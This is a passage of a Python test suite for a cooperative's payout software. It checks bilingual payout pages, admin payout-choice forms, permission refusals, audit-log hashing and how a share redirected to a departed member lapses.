    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    now = datetime.now(UTC)
    this = now.strftime("%Y-%m")
    later = f"{now.year + 1}-01"
    with Commune(home) as c:
        make_person(c, "alice", "Ville A", "cooperative-admin")
        alice = Browser(create_app(c))
        alice.sign_in("alice")
        fr = {"Accept-Language": "fr"}
        page = alice.get("/payouts", headers=fr).page
        assert f"{this} n'est pas fini\u00a0: ce sont ses parts à ce jour" in page, page
        assert "Personne n'est encore crédité." in page and "garde tout" not in page
        page = alice.get(f"/payouts?month={later}", headers=fr).page
        assert f"{later} n'a pas commencé\u00a0: personne n'est encore crédité." in page, page
        assert "garde tout" not in page
        page = alice.get("/payouts?month=2020-01", headers={"Accept-Language": "en"}).page
        assert "Nobody was credited this month: the fund keeps it all." in page
        assert 'role="note"' not in page


def test_a_cooperative_admin_records_a_contributors_choice_on_the_admin_page(month, home) -> None:
    """An organisation that contributes has no account to choose on, and only the
    operator's command line recorded its choice, though the library lets the cooperative's
    admins do it. Now /admin does, for them only: audited, refusals said in the form."""
    import html as html_lib

    from commune.api.app import create_app
    from tests.test_web import Browser

    make_person(month, "alice", "Ville A", "cooperative-admin")
    make_person(month, "mona", "Ville A", "member-admin")
    app = create_app(month)
    alice = Browser(app)
    alice.sign_in("alice")
    page = alice.get("/admin", headers={"Accept-Language": "fr"}).page
    assert "Choix de versement" in page and '<option value="Jardins partagés">' in page
    n = len(audit(month))
    r = alice.post(
        "/admin/payouts", {"contributor": "Jardins partagés", "choice": "redirect", "to": "Ville B"}
    )
    assert r.status_code == 303 and r.headers["location"] == "/admin?done=payout"
    line = month.payouts(MONTH, amount=100).line_of("Jardins partagés")
    assert line is not None and (line.choice, line.paid_to) == ("redirect", "Ville B")
    assert [e.action for e in audit(month)[n:]] == ["payout-redirect"]
    assert json.loads(audit(month)[-1].details)["reason"] == (
        "cooperative admins record contributors' payout choices"
    )
    shown = alice.get("/admin?done=payout").page
    assert "Choix de versement enregistré." in shown and "redirigée vers un membre" in shown
    # Refused in the form, in the reader's language, with what was typed; nothing recorded.
    n = len(audit(month))
    for sent, said in (
        (
            {"contributor": "Personne", "choice": "waive"},
            "Aucun contributeur nommé 'Personne' (utilisez le nom tel que la page des "
            "rétributions l'affiche).",
        ),
        (
            {"contributor": "Jardins partagés", "choice": "redirect", "to": ""},
            "Une part redirigée demande le membre à qui elle va (choisissez le membre).",
        ),
    ):
        r = alice.post("/admin/payouts", sent, headers={"Accept-Language": "fr"})
        assert r.status_code in (400, 404), r.status_code
        alerts = re.findall(r'<p class="error" role="alert" id="payout-error">(.*?)</p>', r.text)
        assert [html_lib.unescape(a) for a in alerts] == [said], alerts
        assert f'value="{sent["contributor"]}"' in html_lib.unescape(r.text)
    # A month typed as a browser without a month picker lets one type it (Safari's text box):
    # refused on its field too, where only the contributor's was told why.
    r = alice.post(
        "/admin/payouts",
        {"contributor": "Jardins partagés", "choice": "waive", "from": "11/2026"},
        headers={"Accept-Language": "fr"},
    )
    assert r.status_code == 400 and "Le mois doit s'écrire comme" in html_lib.unescape(r.text)
    assert re.search(r'<input id="payout-from" [^>]*aria-describedby="payout-error"', r.text)
    assert re.search(r'<select id="payout-to" [^>]*aria-describedby="payout-error"', r.text)
    # A member left selected while waiving is no part of the choice.
    r = alice.post(
        "/admin/payouts", {"contributor": "Jardins partagés", "choice": "waive", "to": "Ville B"}
    )
    assert r.status_code == 303
    assert month.payouts(MONTH, amount=100).line_of("Jardins partagés").paid_to == FUND  # type: ignore[union-attr]
    # A member's admin is offered no such form, and its route refuses them.
    mona = Browser(app)
    mona.sign_in("mona")
    assert "/admin/payouts" not in mona.get("/admin").text
    r = mona.post("/admin/payouts", {"contributor": "Jardins partagés", "choice": "receive"})
    assert r.status_code == 403
    assert month.payouts(MONTH, amount=100).line_of("Jardins partagés").paid_to == FUND  # type: ignore[union-attr]
    assert [e.action for e in audit(month)[n:]] == ["payout-waive"]


def test_a_month_paid_out_keeps_the_currency_it_was_paid_in(month, home: Path) -> None:
    """[cooperative] currency changed after a month was paid out: the month read in the new
    money (its fund the same figure), and issued again, otherwise than its audited hash."""
    from sqlalchemy import update

    from commune.core import Commune

    month.close()
    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:
        first, digest = c.issue_payouts(MONTH)
        with c.engine.begin() as conn:  # issued once the month was over, as a month on
            after = datetime.strptime(NEXT_MONTH, "%Y-%m").replace(tzinfo=UTC).isoformat()
            latest = select(audit_log.c.id).order_by(audit_log.c.id.desc()).limit(1)
            conn.execute(
                update(audit_log)
                .where(audit_log.c.id == latest.scalar_subquery())
                .values(created_at=after)
            )
    (home / "commune.toml").write_text(
        '[payouts]\nmonthly_eur = 100\n[cooperative]\ncurrency = "CHF"\n', encoding="utf-8"
    )
    with Commune(home) as c:
        assert first.currency == "EUR" and c.payouts(MONTH).currency == "EUR"  # the web's too
        again, again_digest = c.issue_payouts(MONTH)
        assert again.currency == "EUR" and again_digest == digest
        assert c.payouts(NEXT_MONTH).currency == "CHF"  # a month not paid out: today's


def test_only_the_operator_issues_a_months_payouts_whichever_face_calls(month) -> None:
    """The library paid out a month for any actor it was given: only the faces decided who
    called it. A cooperative admin (who sees /payouts) is refused with the policy's reason,
    before the statement is made or the audit log written; the operator still issues."""
    from commune.errors import Forbidden

    make_key(month, "claire", "Ville A", "cooperative-admin")
    n = len(audit(month))
    for actor in (month.actor("claire"), month.actor("dora")):
        # No amount and no fund set: refused for who they are, not told to set a fund.
        with pytest.raises(
            Forbidden, match=f"issuing a month is the operator's.*; {actor.user} is"
        ):
            month.issue_payouts(MONTH, actor=actor)
    assert audit(month)[n:] == [] and not month.payouts_issued(MONTH)
    stmt, digest = month.issue_payouts(MONTH, amount="100.00")
    assert [e.action for e in audit(month)[n:]] == ["payouts"] and len(digest) == 64


def test_the_payout_choices_and_their_names_are_the_librarys_to_give(month) -> None:
    """/admin read the contributors' names from the engine itself, the library never asked:
    another face had to copy the page's check. The library now gives every choice and every
    name to the cooperative's admins, a contributor their own share's choices, and refuses
    the names to anyone else with the policy's reason."""
    from commune.errors import Forbidden

    make_key(month, "claire", "Ville A", "cooperative-admin")
    make_key(month, "mona", "Ville A", "member-admin")
    month.set_payout_choice("Jardins partagés", "waive", from_month=MONTH)
    dora = month.actor("dora")
    month.set_payout_choice("dora (Ville A)", "waive", from_month=MONTH, actor=dora)
    every = month.payout_choices()
    assert [r["contributor"] for r in every] == ["Jardins partagés", "dora (Ville A)"]
    assert month.payout_choices(month.actor("claire")) == every
    assert month.payout_choices(dora) == every[1:]  # their own share's, as their account shows
    assert month.payout_choices(month.actor("mona")) == []
    names = month.payout_contributors(month.actor("claire"))
    assert names == month.payout_contributors() == sorted(names)
    assert {"Jardins partagés", "dora (Ville A)", "cyril (Ville B)"} <= set(names)
    for user, reason in (
        # Both told the role that decides (dora was told member-admin would do).
        ("mona", f"{COOP} or above; mona is member-admin"),
        ("dora", f"{COOP} or above; dora is contributor"),
    ):
        with pytest.raises(Forbidden) as refused:
            month.payout_contributors(month.actor(user))
        # And whom to ask (policy.ASKS): the cooperative's matter, its admins'.
        assert str(refused.value) == f"{reason} (ask a cooperative admin or the operator)"
    assert localise(str(refused.value), "fr") == (
        "administrer la coopérative demande le rôle administrateur de la coopérative ou "
        "au-dessus\u00a0; dora est contributeur (demandez à un administrateur de la "
        "coopérative ou à l'opérateur)"
    )


def test_the_payout_pages_french_labels_keep_their_colon_on_their_line() -> None:
    """The pages' « Fonds du mois / the month's fund : 10,00 EUR » had an ordinary space
    before its colons and semicolons, which a narrow window breaks before (text/typography)."""
    from commune.commons.payout_files import contributor_html, statement_html
    from commune.commons.payouts import Line, PayoutStatement
    from commune.text.typography import ORDINARY_SPACE

    line = Line("Zoé : ? ;", 1, 0, 0, 1.0, Decimal("10.00"), "receive", "Zoé : ? ;")
    stmt = PayoutStatement("2026-11", "EUR", Decimal("10.00"), Weights(), "largest", [line])
    stmt.unattributed = {"citations": 1}
    for page in (statement_html(stmt), contributor_html(stmt, line)):
        said = page.replace("Zoé : ? ;", "")  # a contributor's name stays as it is written
        assert "\u00a0: " in said and not ORDINARY_SPACE.findall(said), said
        assert "Zoé : ? ;" in page


def test_the_payouts_refusal_says_where_ones_own_payout_is(commune) -> None:  # type: ignore[no-untyped-def]
    """A town hall's member admin who opened /payouts (docs/fr/retributions.md names it) read
    that it was the cooperative admins' and to ask them, with nothing on where her own share
    was: the guide says it is on her « Compte » page, the refusal did not. It says so now."""
    from commune.api.app import create_app
    from tests.test_web import Browser

    make_person(commune, "sandrine", "Ville A", "member-admin")
    b = Browser(create_app(commune))
    assert b.sign_in("sandrine").status_code == 303
    r = b.get("/payouts", headers={"Accept-Language": "fr"})
    assert r.status_code == 403
    own = "Votre propre rétribution, ce mois-ci à ce jour, est sur votre page «\u00a0Compte\u00a0»."
    assert own in r.page, r.page
    assert 'href="/account"' in r.page  # the menu's « Compte »


def _gone_at_the_start_of_the_month(c, member: str) -> datetime:  # type: ignore[no-untyped-def]
    """``member`` (nobody's use metered to it) left the cooperative on the first day of the
    month under way, as a departure recorded back then would read."""
    from sqlalchemy import update

    from commune.store.schema import members

    with c.engine.begin() as conn:  # a member since the spring: it may leave on the 1st
        conn.execute(update(members).values(created_at=datetime(2026, 3, 1, tzinfo=UTC)))
    start = datetime.strptime(MONTH + "-01", "%Y-%m-%d").replace(tzinfo=UTC)
    c.admin.leave(member, start)
    return start


def test_a_share_redirected_to_a_member_that_left_goes_back_to_its_contributor(
    month, home: Path
) -> None:
    """A share redirected to a member was still paid to it after it left the cooperative,
    whose fund pays its members. From the first month it is out of, the share goes back
    to its contributor, and the statement, its files and the pages say why."""
    from commune.api.app import create_app
    from commune.cli.accounting import french_payouts
    from commune.commons.payout_files import csv_text, statement_html
    from commune.core import Commune
    from commune.errors import InvalidRequest
    from commune.govern.accounts import set_password
    from tests.test_web import Browser

    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:
        make_key(c, "eve", "Ville C")
        c.set_payout_choice("dora (Ville A)", "redirect", to="Ville C")
        _gone_at_the_start_of_the_month(c, "Ville C")
        stmt = c.payouts(MONTH)
        line = stmt.line_of("dora (Ville A)")
        assert line is not None and line.paid_to == "dora (Ville A)", line
        assert (line.choice, line.lapsed, line.left_on) == ("receive", "Ville C", f"{MONTH}-01")
        assert stmt.redirected == 0 and stmt.paid == stmt.fund
        assert "Ville C" not in stmt.recipients()
        gone = f"the redirect to Ville C lapsed: it left the cooperative on {MONTH}-01"
        parti = f"reversement à Ville C caduc, parti de la coopérative le {MONTH}-01"
        assert f"({parti})" in french_payouts(stmt)
        rows = list(csv.reader(csv_text(stmt).splitlines(), delimiter=";"))
        assert rows[[r[1] for r in rows].index("dora (Ville A)")][8] == f"perçu ({parti})"
        assert parti in statement_html(stmt) and gone in statement_html(stmt)
        r = CliRunner(env={"LANG": "en_GB.UTF-8"}).invoke(
            cli, ["--home", str(home), "payouts", "--month", MONTH]
        )
        assert r.exit_code == 0 and f"({gone})" in r.stdout, r.output
        # Only the lines with a lapsed redirect say so in JSON: a month issued before they
        # could hashes the same when issued again.
        lines = stmt.to_json()["lines"]
        assert [ln["contributor"] for ln in lines if "lapsed" in ln] == ["dora (Ville A)"]
        # A new redirect to the member that left is refused, in one line in French too.
        with pytest.raises(InvalidRequest) as refused:
            c.set_payout_choice("cyril (Ville B)", "redirect", to="Ville C")
        said = str(refused.value)
        assert said.startswith(f"'Ville C' left the cooperative on {MONTH}-01: a share from")
        assert localise(said, "fr").startswith(
            f"'Ville C' a quitté la coopérative le {MONTH}-01\u00a0: une part à partir de"
        ), localise(said, "fr")
        assert "redirigez la part vers un membre de la coopérative" in localise(said, "fr")
        # The pages: the cooperative's admin reads why on /payouts, dora on her account.
        make_person(c, "alice", "Ville A", "cooperative-admin")
        with c.engine.begin() as conn:
            set_password(conn, "dora", PASSWORD)
        app = create_app(c)
        alice = Browser(app)
        assert alice.sign_in("alice").status_code == 303
        page = alice.get(f"/payouts?month={MONTH}", headers={"Accept-Language": "en"}).page
        assert gone in page
        dora = Browser(app)
        assert dora.sign_in("dora").status_code == 303
        mine = dora.get("/account").page
        assert f"qui a quitté la coopérative le {MONTH}-01" in mine, mine


def test_a_departure_refused_for_a_month_paid_out_names_the_first_day_it_may_take(
    month,
) -> None:
    """A departure dated before a month whose payouts were issued with a share redirected
    to the member is refused; its hint named the next month's first day, while a day inside
    the month paid out (the member in for part of it, the month its own) was accepted. It
    names the month's second day, which is accepted and leaves the month as it was paid."""
    from sqlalchemy import update

    from commune.errors import InvalidRequest
    from commune.store.schema import members

    make_key(month, "eve", "Ville C")
    with month.engine.begin() as conn:  # members since the spring: they may leave on the 1st
        conn.execute(update(members).values(created_at=datetime(2026, 3, 1, tzinfo=UTC)))
    month.set_payout_choice("dora (Ville A)", "redirect", to="Ville C")
    issued, _ = month.issue_payouts(MONTH, amount="10.00")
    assert "Ville C" in issued.recipients()
    start = datetime.strptime(MONTH + "-01", "%Y-%m-%d").replace(tzinfo=UTC)
    with pytest.raises(InvalidRequest) as refused:
        month.admin.leave("Ville C", start)
    assert f"give {MONTH}-02 or a later date" in str(refused.value), str(refused.value)
    month.admin.leave("Ville C", start.replace(day=2))
    assert month.payouts(MONTH, amount="10.00").recipients() == issued.recipients()


def _offered(page: str) -> list[str]:
    """The payout form's member list: each option's text after the empty one."""
    import html as html_lib

    found = re.search(r'<select id="payout-to"[^>]*>(.*?)</select>', page, re.S)
    assert found, page[-600:]
    options = re.findall(r'<option value="[^"]+"[^>]*>(.*?)</option>', found.group(1))
    return [html_lib.unescape(o).replace("\u00a0", " ") for o in options]


def test_the_payout_form_offers_only_the_members_a_share_may_go_to(month) -> None:
    """The payout form's member list offered every member, one that had left and a peer
    cooperative included, and choosing one got a refusal. It offers those a share from the
    month may go to: one leaving later is offered, saying when, and once the form comes back
    with a month it is out of, it is no longer."""
    from commune.api.app import create_app
    from tests.test_web import Browser

    make_person(month, "alice", "Ville A", "cooperative-admin")
    make_key(month, "eve", "Ville C")
    make_key(month, "fred", "Ville D")
    month.admin.issue_peer("Coop Voisine")
    _gone_at_the_start_of_the_month(month, "Ville C")
    month.admin.leave("Ville D")  # at the end of this month: still in it
    alice = Browser(create_app(month))
    alice.sign_in("alice")
    fr = {"Accept-Language": "fr"}
    assert _offered(alice.get("/admin", headers=fr).page) == [
        "Ville A",
        "Ville B",
        f"Ville D (part le {NEXT_MONTH}-01)",
    ]
    sent = {"contributor": "Jardins partagés", "choice": "redirect", "to": "Ville D"}
    r = alice.post("/admin/payouts", sent | {"from": NEXT_MONTH}, headers=fr)
    assert r.status_code == 400 and "ne peut pas lui être versée" in r.text, r.text[-800:]
    assert _offered(r.text) == ["Ville A", "Ville B"]
    r = alice.post("/admin/payouts", sent | {"from": MONTH}, headers=fr)
    assert r.status_code == 303, r.text[-800:]


def test_a_departure_says_what_it_does_to_the_shares_redirected_to_the_member(month) -> None:
    """`commune member leave --help` and the administration page's departure form said what a
    departure does to the member's bill, people and documents, and nothing of the payout
    shares redirected to it, which go back to their contributors from the first month it is
    out of (docs/payouts.md). Both say it, in French and English."""
    from commune.api.app import create_app
    from tests.test_web import Browser

    for lang, said in (
        (
            "fr_FR.UTF-8",
            "à partir du premier mois où il n'en fait plus partie, chaque "
            "reversement est caduc et la part est versée à son contributeur",
        ),
        (
            "en_GB.UTF-8",
            "from the first month it is out of, each redirect lapses and the "
            "share is paid to its contributor",
        ),
    ):
        helped = CliRunner(env={"LANG": lang}).invoke(cli, ["member", "leave", "--help"])
        assert said in " ".join(helped.output.split()), helped.output
    make_person(month, "alice", "Ville A", "cooperative-admin")
    alice = Browser(create_app(month))
    alice.sign_in("alice")
    for lang, said in (
        (
            "fr",
            "à partir du premier mois où il n'en fait plus partie, chacune revient à son "
            "contributeur",
        ),
        ("en", "from the first month it is out of, each goes back to its contributor"),
    ):
        page = alice.get("/admin", headers={"Accept-Language": lang}).page
        found = re.search(r'<p class="help" id="leave-help">(.*?)</p>', page, re.S)
        assert found and said in found.group(1).replace("&#39;", "'"), page[-800:]


def paid_out_before_the_lapse(  # type: ignore[no-untyped-def]
    c, month: str, fund: str, lapsing: bool = False
) -> tuple[PayoutStatement, str]:
    """``month``'s payouts issued once it was over (a month on) by the code before a redirect
    to a member that left could lapse (before 96c195e1): its statement, which read no
    departure, and its audit entry as that code wrote it. With ``lapsing``, by the code that
    brought the lapse in before its entries named the rule (96c195e1 to a9a60a76): its
    statement read the departures, its entry as the old one. Returns the statement and its
    SHA-256."""
    import hashlib
    from dataclasses import asdict
    from unittest import mock

    from sqlalchemy import update

    from commune.commons.payouts import build
    from commune.store import audit
    from commune.store.schema import members

    weights = c.payouts(month, amount=fund).weights
    with c.engine.connect() as conn:  # not committed: that rule read no departure
        if not lapsing:
            conn.execute(update(members).values(left_at=None))
        stmt = build(conn, month, Decimal(fund), weights)
    text = json.dumps(stmt.to_json(), sort_keys=True, ensure_ascii=False)
    digest = hashlib.sha256(text.encode("utf-8")).hexdigest()
    after = f"{int(month[:4]) + (month[5:] == '12')}-{int(month[5:]) % 12 + 1:02d}"
    over = datetime.strptime(after, "%Y-%m").replace(tzinfo=UTC)
    with mock.patch.object(audit, "now", lambda: over), c.engine.begin() as conn:
        audit.append(
            conn,
            "operator",
            "payouts",
            f"month {month}",
            fund=str(stmt.fund),
            currency=stmt.currency,
            paid=str(stmt.paid),
            redirected=str(stmt.redirected),
            kept=str(stmt.kept),
            contributors=len(stmt.lines),
            weights=asdict(stmt.weights),
            sha256=digest,
        )
    return stmt, digest


def test_a_month_paid_out_before_a_redirect_could_lapse_reads_as_it_was_paid(
    month, home: Path
) -> None:
    """A month paid out before a redirect to a member that left could lapse paid the share to
    the member, its departure recorded already. Issued again on the command line, it lapsed:
    the share paid to its contributor, another SHA-256 than its audit entry's. It reads as it
    was paid now, on the command line (its fund the one it was paid out with) and the page."""
    from commune.api.app import create_app
    from tests.test_web import Browser

    make_key(month, "eve", "Ville C")
    month.set_payout_choice("dora (Ville A)", "redirect", to="Ville C")
    _gone_at_the_start_of_the_month(month, "Ville C")
    paid, digest = paid_out_before_the_lapse(month, MONTH, "10.00")
    assert paid.line_of("dora (Ville A)").paid_to == "Ville C"  # type: ignore[union-attr]
    r = CliRunner().invoke(cli, ["--home", str(home), "payouts", "--month", MONTH, "--json"])
    assert r.exit_code == 0, r.output
    again = json.loads(r.stdout)
    assert again["sha256"] == digest and again["fund"] == "10.00"
    [dora] = [ln for ln in again["lines"] if ln["contributor"] == "dora (Ville A)"]
    assert (dora["choice"], dora["paid_to"], "lapsed" in dora) == ("redirect", "Ville C", False)
    make_person(month, "alice", "Ville A", "cooperative-admin")
    alice = Browser(create_app(month))
    assert alice.sign_in("alice").status_code == 303
    page = alice.get(f"/payouts?month={MONTH}", headers={"Accept-Language": "en"}).page
    assert "Ville C" in page and "lapsed" not in page, page


def test_a_month_paid_out_with_a_lapse_before_entries_named_the_rule_reads_as_it_was_paid(
    month,
) -> None:
    """Between 96c195e1 and a9a60a76 a month paid out lapsed a redirect to a member that had
    left, and its audit entry named no rule, as the entries of the code before the lapse.
    Read as the rule before, it came out otherwise when issued again: the share paid to the
    member that left, another SHA-256 than its entry's. It is built under the rule whose
    statement its entry hashed."""
    make_key(month, "eve", "Ville C")
    month.set_payout_choice("dora (Ville A)", "redirect", to="Ville C")
    _gone_at_the_start_of_the_month(month, "Ville C")
    paid, digest = paid_out_before_the_lapse(month, MONTH, "10.00", lapsing=True)
    assert paid.line_of("dora (Ville A)").lapsed == "Ville C"  # type: ignore[union-attr]
    again, again_digest = month.issue_payouts(MONTH)
    assert again_digest == digest and again.lines == paid.lines
    assert again.line_of("dora (Ville A)").paid_to == "dora (Ville A)"  # type: ignore[union-attr]
    assert month.issue_payouts(MONTH)[1] == digest  # its entry says the rule now
    assert month.verify_audit().ok
